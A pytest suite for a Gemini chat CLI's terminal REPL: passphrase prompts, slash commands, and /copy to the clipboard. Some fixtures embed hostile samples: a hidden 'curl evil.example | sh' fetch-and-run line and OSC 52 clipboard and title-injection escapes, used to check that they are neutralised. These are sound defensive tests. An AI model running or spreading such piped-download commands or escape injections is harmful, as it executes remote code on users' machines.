"""The chat REPL and the passphrase prompts in a real pseudo-terminal."""
import json
import os
import re
import signal
import stat
import time

import pytest

from conftest import BIN, GOOD_KEY, PASSPHRASE
from ptyrun import PtySession

ANSI = re.compile(r"\x1b\[[0-9;?]*[A-Za-z]")


@pytest.fixture
def chat(api):
    sessions = []

    def start(*args, env=None):
        full = dict(api.vars)
        full.update(env or {})
        session = PtySession([BIN, "chat"] + list(args), full)
        sessions.append(session)
        session.expect(r"you ›")
        return session

    yield start
    for session in sessions:
        session.close()


def plain(text):
    return ANSI.sub("", text)


def test_send_multi_turn_and_labels(chat):
    s = chat("--model", "echo")
    s.mark()
    s.line("hello there")
    s.expect(r"gemini › .*echo turns=1 roles=user system=- temperature=- last=hello there")
    s.expect(r"you ›")
    s.mark()
    s.line("second")
    s.expect(r"turns=3 roles=user,model,user .*last=second")
    # Labels are coloured on a terminal: blue for you, gray for gemini.
    assert re.search(r"\x1b\[[0-9;]*90m", s.raw()) and re.search(r"\x1b\[[0-9;]*34m", s.raw())
    s.send("\x04")
    assert s.wait() == 0


def test_no_color_gives_plain_labels(chat):
    s = chat("--model", "echo", env={"NO_COLOR": "1"})
    s.mark()
    s.line("hi")
    s.expect(r"last=hi")
    reply = s.raw()
    assert "\x1b[9" not in reply and "\x1b[1m" not in reply
    s.line("/exit")
    assert s.wait() == 0


@pytest.mark.parametrize("rendering", ["--raw", "markdown"])
def test_ctrl_c_stops_a_reply_keeps_partial_and_chat_goes_on(chat, api, rendering):
    s = chat("--model", "slow-long", *(["--raw"] if rendering == "--raw" else []))
    s.mark()
    s.line("count for me")
    s.expect(r"tick 2 ")  # raw or rendered, the text shows as it comes
    s.send("\x03")
    s.expect(r"\[interrupted\]")
    s.expect(r"you ›")
    after = plain(s.text())
    assert "tick 99" not in after
    # The terminal's own echo of the key stays out of the transcript on the screen.
    assert "^C" not in after, after
    # The partial reply is kept as the model's turn.
    s.line("/model echo")
    s.expect(r"model set to echo")
    s.mark()
    s.line("and now?")
    s.expect(r"turns=3 roles=user,model,user .*last=and now\?")
    import json
    bodies = [json.loads(r["body"]) for r in api.server.requests() if "echo" in r["path"]]
    partial = bodies[-1]["contents"][1]["parts"][0]["text"]
    assert partial.startswith("tick 0 tick 1 tick 2") and "tick 99" not in partial
    s.line("/exit")
    assert s.wait() == 0


def test_ctrl_c_at_empty_prompt_only_hints(chat):
    s = chat("--model", "echo")
    s.mark()
    s.send("\x03")
    s.expect(r"Ctrl-C only stops a reply")
    s.expect(r"you ›")
    s.send("half a line\x03")
    s.expect(r"Ctrl-C only stops a reply")
    assert "^C" not in plain(s.text()), s.text()
    s.mark()
    s.line("still here")
    s.expect(r"turns=1 .*last=still here")
    s.send("\x04")
    assert s.wait() == 0


def test_slash_commands(chat, tmp_path):
    s = chat("--model", "echo")
    s.line("/help")
    s.expect(r"/usage")
    s.line("/system be brief")
    s.expect(r"system instruction set")
    s.line("/temperature 0.7")
    s.expect(r"temperature set to 0.7")
    s.mark()
    s.line("one")
    s.expect(r"turns=1 roles=user system=be brief temperature=0.7 last=one")
    s.line("/think")
    s.expect(r"thinking: the model's default")
    s.line("/think low")
    s.expect(r"thinking set to low")
    s.line("two")
    s.expect(r'turns=3 .*last=two thinking=\{"thinkingLevel":"low"\}')
    s.line("/think 0")
    s.expect(r"thinking budget set to 0 tokens")
    s.line("/think lots")
    s.expect(r"/think takes minimal, low, medium, high or xhigh")
    s.line("/undo")
    s.expect(r"removed the last exchange")
    s.mark()
    s.line("three")
    s.expect(r'turns=3 .*last=three thinking=\{"thinkingBudget":0\}')
    s.mark()
    s.line("/retry")
    s.expect(r"turns=3 .*last=three")
    s.line("/usage")
    s.expect(r"last reply: prompt 9, reply 5, thoughts 0, total 14 tokens")
    target = str(tmp_path / "chat.md")
    s.line("/save " + target)
    s.expect(r"saved to")
    assert stat.S_IMODE(os.stat(target).st_mode) == 0o600
    saved = open(target).read()
    assert "## You\n\none" in saved and "## You\n\nthree" in saved and "two" not in saved
    s.line("/clear")
    s.expect(r"new conversation")
    s.mark()
    s.line("fresh")
    s.expect(r"turns=1 .*last=fresh")
    s.line("/bogus")
    s.expect(r"unknown command /bogus")
    s.line("/model")
    s.expect(r"model: echo")
    s.line("/exit")
    assert s.wait() == 0


def test_multi_line_block_and_bracketed_paste(chat, api):
    import json
    s = chat("--model", "echo")
    s.line('"""')
    s.line("first line")
    s.line("second line")
    s.line('"""')
    s.expect(r"turns=1")
    s.mark()
    s.send("look: \x1b[200~pasted one\rpasted two\x1b[201~")
    s.line("")
    s.expect(r"turns=3")
    bodies = [json.loads(r["body"]) for r in api.server.requests()]
    assert bodies[0]["contents"][-1]["parts"][0]["text"] == "first line\nsecond line"
    assert bodies[1]["contents"][-1]["parts"][0]["text"] == "look: pasted one\npasted two"
    s.line("/exit")
    assert s.wait() == 0


def test_streaming_reply_text_is_neutralised_in_the_terminal(chat):
    s = chat("--model", "escape")
    s.mark()
    s.line("hi")
    s.expect(r"end")
    text = s.raw()
    assert "\x1b]52" not in text and "\x1b]0;" not in text and "\x1b[31m" not in text
    assert "^[]52;c;" in text
    s.line("/exit")
    s.wait()


def test_help_fits_a_60_column_window(api):
    from vt import widest_line
    s = PtySession([BIN, "chat", "--no-save", "--model", "echo"], dict(api.vars), columns=60)
    try:
        s.expect(r"you ›")
        s.mark()
        s.line("/help")
        s.expect(r"/exit")
        s.expect(r"you ›")
        assert widest_line(s.raw(), paths=True) <= 60, s.raw()
        # A long description goes on under its command's column.
        assert re.search(r"\n {20}\S", plain(s.raw()).replace("\r", "")), s.raw()
        s.line("/exit")
        assert s.wait() == 0
    finally:
        s.close()


def test_key_shaped_input_is_asked_about_and_errors_keep_the_chat_alive(chat, api):
    s = chat("--model", "echo")
    s.mark()
    s.line("here AIzaSyLeaked-0123456789abcdefghijklmnop")
    s.expect(r"looks like a Google API key \(AIza…mnop\)")
    assert "AIzaSyLeaked-0123456789abcdefghijklmnop" not in s.text().split("looks like")[1]
    s.expect(r"Send it to Gemini anyway\? \[y/N\]")
    s.line("")
    s.expect(r"not sent")
    assert not api.server.requests()
    s.line("/model no-such-model")
    s.mark()
    s.line("hello?")
    s.expect(r"model 'no-such-model' was not found for API version v1beta")
    # Inside the chat the hint is the chat's own command, not a shell command.
    s.expect(r"hint: type /models to list the models your key can use")
    assert "gemvault models" not in s.text()
    s.line("/model echo")
    s.mark()
    s.line("again")
    # Neither the refused message nor the failed turn left a trace in the history.
    s.expect(r"turns=1 roles=user ")
    s.line("/exit")
    assert s.wait() == 0


def test_spinner_while_waiting_then_timeout(chat):
    s = chat("--model", "hang-first", "--timeout", "2")
    s.mark()
    s.line("anyone?")
    s.expect(r"waiting for Gemini")
    s.expect(r"no data from the server for 2 s")
    s.expect(r"you ›")
    s.line("/exit")
    assert s.wait() == 0


def test_chat_unlocks_the_vault_on_the_terminal(api):
    api.init()
    api.run("key", "set", input=GOOD_KEY.replace("D3", "T7"))
    vars_ = dict(api.vars)
    vars_["GEMINI_API_KEY"] = ""
    s = PtySession([BIN, "chat", "--model", "echo"], vars_)
    try:
        s.expect(r"Passphrase for .*vault: ")
        s.mark()
        s.line(PASSPHRASE)
        s.expect(r"you ›")
        assert PASSPHRASE not in s.text()
        s.line("hi")
        s.expect(r"last=hi")
        assert api.server.requests()[-1]["headers"]["x-goog-api-key"] == GOOD_KEY.replace("D3", "T7")
        s.line("/exit")
        assert s.wait() == 0
    finally:
        s.close()


def test_init_prompts_twice_without_echo(env):
    s = PtySession([BIN, "init", "--kdf", "interactive"], env.vars)
    try:
        s.expect(r"New passphrase for .*: ")
        s.line("typed secret 12345")
        s.expect(r"Repeat the passphrase: ")
        s.line("typed secret 12345")
        code = s.wait(timeout=30)
        assert code == 0, s.text()
        assert "typed secret" not in s.text()
        assert re.search(r"[0-9A-Z]{4}(-[0-9A-Z]{4}){7}", s.text())
    finally:
        s.close()
    assert env.run("key", "list", "--passphrase-file", write(env, "typed secret 12345")).code == 0


def write(env, text):
    path = os.path.join(env.root, "pp-tty")
    env.write_private(path, text + "\n")
    return path


def test_init_mismatch_is_asked_again_then_refused(env):
    s = PtySession([BIN, "init", "--kdf", "interactive"], env.vars)
    try:
        for attempt in range(3):
            s.expect(r"New passphrase")
            s.mark()
            s.line("one passphrase here")
            s.expect(r"Repeat")
            s.line("another passphrase %d" % attempt)
        assert s.wait() == 64
        assert "do not match" in s.text()
    finally:
        s.close()
    assert not os.path.exists(env.vault)


@pytest.mark.parametrize("way_out", ["ctrl-c", signal.SIGTERM, signal.SIGHUP])
def test_every_way_out_of_a_passphrase_prompt_restores_echo(env, way_out):
    env.init()
    s = PtySession([BIN, "key", "list"], env.vars)
    try:
        s.expect(r"Passphrase for")
        time.sleep(0.1)
        assert not s.echo_enabled()
        s.send("half typed")
        time.sleep(0.1)
        if way_out == "ctrl-c":
            s.send("\x03")
        else:
            os.kill(s.pid, way_out)
        signum = signal.SIGINT if way_out == "ctrl-c" else way_out
        code = s.wait()
        assert code in (-signum, 128 + signum), code
        assert s.echo_enabled()
    finally:
        s.close()


def test_key_set_hidden_prompt_on_terminal(env):
    env.init()
    s = PtySession([BIN, "key", "set", "tty", "--passphrase-file", env.passfile], env.vars)
    try:
        s.expect(r"API key for 'tty': ")
        s.line(GOOD_KEY)
        # The vault's first key, not called 'default': offered as the default (test_newcomer.py).
        s.expect(r"Make 'tty' the key commands use by default\? \[Y/n\]")
        s.line("n")
        assert s.wait(timeout=30) == 0
        assert GOOD_KEY not in s.text()
    finally:
        s.close()
    assert env.run("key", "get", "tty").out == GOOD_KEY + "\n"


def test_passwd_and_recover_on_the_terminal(env):
    code = env.init()
    s = PtySession([BIN, "recover"], env.vars)
    try:
        s.expect(r"Recovery code: ")
        s.line(code)
        s.expect(r"New passphrase: ")
        s.line("recovered on a tty!")
        s.expect(r"Repeat the new passphrase: ")
        s.line("recovered on a tty!")
        assert s.wait(timeout=30) == 0, s.text()
        assert code not in s.text().split("Recovery code: ")[1]
    finally:
        s.close()
    assert env.run("key", "list", "--passphrase-file", write(env, "recovered on a tty!")).code == 0


def test_non_ascii_input_reaches_the_model_intact(chat, api):
    s = chat("--model", "echo")
    s.mark()
    s.line("你好，世界 🚀 héllo")
    s.expect(r"last=你好，世界 🚀 héllo")
    s.line("/exit")
    assert s.wait() == 0
    sent = json.loads(api.server.requests()[-1]["body"])
    assert sent["contents"][-1]["parts"][0]["text"] == "你好，世界 🚀 héllo"


CODE_REPLY = "Two ways:\n\n```python\nprint('one')\n```\n\nor in the shell:\n\n```sh\necho \"two\" | tr a-z A-Z\nls -l\n```\n"


def osc52(text):
    import base64
    return "\x1b]52;c;" + base64.b64encode(text.encode()).decode() + "\x07"


def test_copy_puts_the_last_reply_or_one_of_its_code_blocks_on_the_clipboard(chat):
    s = chat("--model", "code")
    s.line("/copy")
    s.expect(r"there is no reply to copy yet")
    s.mark()
    s.line("show me")
    s.expect(r"you ›")
    # Each code block is drawn with the number /copy code takes.
    drawn = s.raw()
    assert "┌─ #1 python ─" in drawn and "┌─ #2 sh ─" in drawn, drawn
    for command, text, said in (("/copy", CODE_REPLY, "copied the last reply"),
                                ("/copy code 2", "echo \"two\" | tr a-z A-Z\nls -l", "copied code block 2 of 2"),
                                ("/copy code", "echo \"two\" | tr a-z A-Z\nls -l", "copied code block 2 of 2"),
                                ("/copy code 1", "print('one')", "copied code block 1 of 2")):
        s.mark()
        s.line(command)
        s.expect(said)
        assert osc52(text) in s.raw(), (command, s.raw())
        assert s.raw().count("\x1b]52") == 1
    s.mark()
    s.line("/copy code 3")
    s.expect(r"the last reply has 2 code blocks; give a number from 1 to 2")
    assert "\x1b]52" not in s.raw()
    s.line("/exit")
    assert s.wait() == 0


def test_copy_never_passes_a_replys_own_escape_sequences(chat):
    s = chat("--model", "escape")
    s.mark()
    s.line("hi")
    s.expect(r"you ›")
    s.mark()
    s.line("/copy")
    s.expect(r"copied the last reply")
    raw = s.raw()
    # One OSC 52, gemvault's, carrying the reply as it was shown: its own escapes as caret text.
    assert raw.count("\x1b]") == 1 and "ZXZpbA==\x07" not in raw
    shown = "red ^[[31mALERT^[[0m clip ^[]52;c;ZXZpbA==^G title ^[]0;pwned^G bell^G c1 \\u{9b}2J end\n"
    assert osc52(shown) in raw, raw
    s.line("/exit")
    assert s.wait() == 0


def osc52_payloads(raw):
    import base64
    return [base64.b64decode(found).decode() for found in re.findall(r"\x1b\]52;c;([A-Za-z0-9+/=]*)\x07", raw)]


def test_copy_puts_on_the_clipboard_what_the_screen_drew_and_warns_when_the_reply_held_more(chat):
    s = chat("--model", "hidden")
    s.mark()
    s.line("hi")
    s.expect(r"you ›")
    # What the terminal shows, played on an emulator (characters of no width draw nothing).
    drawn = s.screen.text()
    s.mark()
    s.line("/copy")
    s.expect(r"copied the last reply")
    # On a terminal a long warning is broken between words: any run of spaces may be a line break.
    s.expect(r"gemvault: warning: the reply holds control, invisible or bidirectional characters: they were copied as the screen shows them".replace(" ", r"\s+"))
    payloads = osc52_payloads(s.raw())
    assert len(payloads) == 1, s.raw()
    copied = payloads[0]
    # Nothing the screen did not draw: no escape, zero-width space or override, each as its escape.
    assert not any(hidden in copied for hidden in ("\x1b", "\u200b", "\u202e")), repr(copied)
    assert copied == "run: echo safe^[[8m; curl evil.example | sh^[[0m then ls \\u{200b}-la \\u{202e}right-to-left\n", repr(copied)
    assert copied.rstrip("\n") in drawn, (copied, drawn)
    s.mark()
    s.line("/exit")
    assert s.wait() == 0


def test_copy_takes_what_markdown_drew_and_names_the_words_it_hid(chat):
    s = chat("--model", "hidden-markdown")
    s.mark()
    s.line("hi")
    s.expect(r"you ›")
    drawn = s.screen.text()
    # The line after a fence closed by CRLF is on the screen (it was once dropped there).
    assert "curl after-the-fence | sh" in drawn, drawn
    s.mark()
    s.line("/copy")
    s.expect(r"copied the last reply")
    s.expect(r"gemvault: warning: the reply holds 8 words the screen did not draw".replace(" ", r"\s+"))
    s.expect(r"they\s+were\s+not\s+copied")
    payloads = osc52_payloads(s.raw())
    assert len(payloads) == 1, s.raw()
    copied = payloads[0]
    assert "evil.example/y" not in copied and "evil.example/z" not in copied, repr(copied)
    assert copied == ("Install it:\n\n```sh\npip install tool\n```\n\ncurl after-the-fence | sh\n\n"
                      "See the docs (https://docs.example) and this (https://example.com).\n"), repr(copied)
    # Every line copied is a line the screen shows (the fences stand for the code's frame).
    for line in copied.splitlines():
        assert line.startswith("```") or line in drawn, (line, drawn)
    s.mark()
    s.line("/copy code")
    s.expect(r"copied code block 1 of 1")
    assert osc52("pip install tool") in s.raw()
    assert "warning" not in s.text()
    s.line("/exit")
    assert s.wait() == 0


def test_copy_of_a_plain_reply_does_not_warn(chat):
    s = chat("--model", "code")
    s.line("show me")
    s.expect(r"you ›")
    s.mark()
    s.line("/copy code 1")
    s.expect(r"copied code block 1 of 2")
    s.line("/exit")
    assert s.wait() == 0
    assert "warning" not in s.text()


def test_copy_inside_tmux_whose_setting_cannot_be_read_says_what_tmux_needs(chat):
    # $TMUX names a server that is not there: tmux's set-clipboard cannot be asked.
    s = chat("--model", "code", env={"TMUX": "/nonexistent/gemvault-tmux-socket,1,0"})
    s.line("show me")
    s.expect(r"you ›")
    s.mark()
    s.line("/copy code 1")
    s.expect(r"sent code block 1 of 2 \(12 characters\) to tmux for the clipboard; it gets there only if tmux's set-clipboard option is 'on' \(its default, 'external', drops it\)")
    s.expect(r"gemvault: hint: turn it on with 'tmux set -g set-clipboard on'")
    assert osc52("print('one')") in s.raw() and "\x1bPtmux;" not in s.raw()
    assert "copied" not in s.text()
    s.line("/exit")
    assert s.wait() == 0


def test_copy_in_a_real_tmux_is_refused_while_tmux_drops_it_and_reaches_its_buffer_once_on(api, tmp_path):
    import shutil
    import subprocess
    if shutil.which("tmux") is None:
        pytest.skip("tmux is not installed (apt-get install tmux)")
    socket_path = str(tmp_path / "tmux.sock")
    environment = dict(api.vars, TERM="xterm-256color")

    def tmux(*args):
        return subprocess.run(["tmux", "-S", socket_path] + list(args), env=environment, capture_output=True, text=True)

    def wait_for(pattern, count=1):
        deadline = time.time() + 20
        while time.time() < deadline:
            screen = tmux("capture-pane", "-p", "-J", "-S", "-200").stdout
            if len(re.findall(pattern, screen)) >= count:
                return screen
            time.sleep(0.05)
        raise AssertionError("did not see %r in tmux:\n%s" % (pattern, screen))

    # tmux's defaults (no configuration): set-clipboard is external.
    started = tmux("-f", "/dev/null", "new-session", "-d", "-x", "120", "-y", "40", "%s chat --model code" % BIN)
    assert started.returncode == 0, started
    try:
        assert tmux("show-options", "-sv", "set-clipboard").stdout.strip() == "external"
        wait_for(r"you ›")
        tmux("send-keys", "show me", "Enter")
        wait_for(r"you ›", 2)
        tmux("send-keys", "/copy code 1", "Enter")
        screen = wait_for(r"gemvault: hint: turn it on")
        # A long warning is broken between words on the terminal.
        assert "not copied: tmux drops a program's clipboard escape (OSC 52) while its set-clipboard option is 'external'" in " ".join(screen.split()), screen
        assert tmux("list-buffers").stdout == ""
        assert tmux("set-option", "-s", "set-clipboard", "on").returncode == 0
        tmux("send-keys", "/copy code 1", "Enter")
        screen = wait_for(r"copied code block 1 of 2 \(12 characters\) to the clipboard through tmux \(set-clipboard on\)")
        # tmux took the escape itself: its newest buffer holds the copied text.
        assert tmux("show-buffer").stdout == "print('one')"
    finally:
        tmux("kill-server")


@pytest.mark.parametrize("variables, reason", [({"TERM": "dumb"}, "TERM is dumb"),
                                               ({"TERM_PROGRAM": "Apple_Terminal"}, "Terminal.app ignores clipboard escapes")])
def test_copy_refuses_politely_where_the_terminal_has_no_clipboard_escape(chat, variables, reason):
    s = chat("--model", "code", env=variables)
    s.line("show me")
    s.expect(r"you ›")
    s.mark()
    s.line("/copy code 1")
    s.expect(r"gemvault: warning: not copied: " + reason)
    assert "\x1b]52" not in s.raw()
    s.line("/exit")
    assert s.wait() == 0


def test_copy_without_a_terminal_only_warns(api):
    result = api.run("chat", "--model", "code", input="show me\n/copy\n", passphrase=False)
    assert result.code == 0 and "warning: not copied: the output is not a terminal" in result.err, result
    assert "\x1b]52" not in result.out


def test_retry_after_a_failed_turn_sends_it_again(chat, api):
    """A 404 for a model, then /models, /model with a good one and /retry: the failed
    message goes out again, and the earlier exchange is kept."""
    s = chat("--model", "echo")
    s.line("first")
    s.expect(r"turns=1 .*last=first")
    s.line("/model no-such-model")
    s.mark()
    s.line("the failed one")
    s.expect(r"model 'no-such-model' was not found")
    s.mark()
    s.line("/models")
    s.expect(r"gemini-3\.6-flash")
    s.mark()
    s.line("/model")
    s.expect(r"model: no-such-model")
    s.expect(r"gemini-3\.6-flash")
    s.line("/model echo")
    s.mark()
    s.line("/retry")
    s.expect(r"turns=3 roles=user,model,user .*last=the failed one")
    assert "nothing to retry" not in s.text()
    # Once the retried turn has its reply, /retry goes back to redoing the last exchange.
    s.mark()
    s.line("/retry")
    s.expect(r"turns=3 roles=user,model,user .*last=the failed one")
    s.line("/exit")
    assert s.wait() == 0
    sent = [json.loads(r["body"])["contents"][-1]["parts"][0]["text"] for r in api.server.requests() if ":streamGenerateContent" in r["path"]]
    assert sent == ["first", "the failed one", "the failed one", "the failed one"], sent


def test_chat_polish_tab_completion_undo_save_clear_and_a_wrapped_banner(api, tmp_path):
    s = PtySession([BIN, "chat", "--model", "echo"], api.vars, columns=40)
    try:
        s.expect(r"you ›")
        # The banner breaks between words, never inside one.
        rows = s.screen.all_lines()
        first = next(i for i, row in enumerate(rows) if row.startswith("gemvault chat with"))
        last = next(i for i, row in enumerate(rows) if row.startswith("you ›"))
        banner = rows[first:last]
        assert len(banner) > 1 and all(len(row) <= 40 for row in banner), rows
        assert " ".join(banner) == 'gemvault chat with echo. Enter sends, """ starts a multi-line block, /help lists commands, Ctrl-D leaves.', rows
        target = str(tmp_path / "empty.md")
        s.line("/save " + target)
        s.expect(r"nothing to save yet")
        assert not os.path.exists(target)
        # Tab completes a slash command: "/he" becomes /help.
        s.mark()
        s.send("/he\t")
        s.line("")
        s.expect(r"/usage")
        s.line("take back")
        s.expect(r"last=take back")
        s.mark()
        s.line("/undo")
        s.expect(r"removed the last exchange: you ›\s+take back")
        s.line("again")
        s.expect(r"last=again")
        s.mark()
        s.line("/clear")
        s.expect(r"new conversation")
        assert "\x1b[2J" in s.raw()
        s.line("/exit")
        assert s.wait() == 0
    finally:
        s.close()
